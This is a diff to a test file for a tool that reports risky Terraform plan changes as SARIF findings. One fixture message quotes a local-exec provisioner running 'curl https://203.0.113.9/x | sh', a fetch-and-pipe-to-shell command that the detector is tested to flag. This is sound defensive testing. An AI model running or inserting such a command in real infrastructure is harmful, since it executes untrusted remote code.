@@ -51,6 +51,20 @@ describe('the SARIF', () => {
     expect(valid(JSON.parse(renderSarif(pullRequest).replace('"level": "error"', '"level": "bad"')))).toBe(false);
   });
 
+  test('says where code would run, and what keeps a state', () => {
+    const says = (rule: string) => withRule(pullRequest, rule).map(({ level, message }) => [level, message.text]);
+    expect(says('runs-code')).toEqual([
+      [
+        'error',
+        'data-prod Clusters/main/NodePools/batch: runs a local-exec provisioner: curl https://203.0.113.9/x | sh',
+      ],
+    ]);
+    expect(says('other-provider')).toHaveLength(2);
+    expect(says('state-moves')[0]?.[1]).toContain(
+      'keep it with terraform -chdir=cdktf.out/stacks/data-prod state pull > data-prod.tfstate',
+    );
+  });
+
   test('points at the line of the program', () => {
     const [replaced] = withRule(pullRequest, 'resource-replace');
     expect(replaced?.locations[0].physicalLocation).toEqual({
@@ -89,26 +103,32 @@ describe('the SARIF', () => {
   test('has every kind of finding of a pull request, the dangerous ones first', () => {
     const found = resultsOf(pullRequest).map(({ level, ruleId }) => `${level} ${ruleId}`);
     expect([...new Set(found)]).toEqual([
-      'error resource-replace',
+      'error runs-code',
+      'error other-provider',
+      'error state-moves',
+      'error guard-removed',
+      'error unread',
       'error resource-destroy',
-      'error change-fails',
+      'error resource-replace',
       'error resource-move',
+      'error change-fails',
       'error access-gained',
       'error exposure-opened-allow-list',
       'error place-new',
-      'warning change-buys',
       'warning stack-left-behind',
+      'warning change-buys',
       'warning access-gained',
       'warning exposure-opened-public-address',
       'warning plan-disagrees',
-      'note resource-add',
       'note resource-change',
-      'note change-note',
+      'note resource-add',
       'note resource-left-behind',
+      'note change-note',
       'note exposure-closed-allow-list',
       'note address-taken',
       'note address-freed',
       'note place-new',
+      'note differs',
     ]);
   });
 
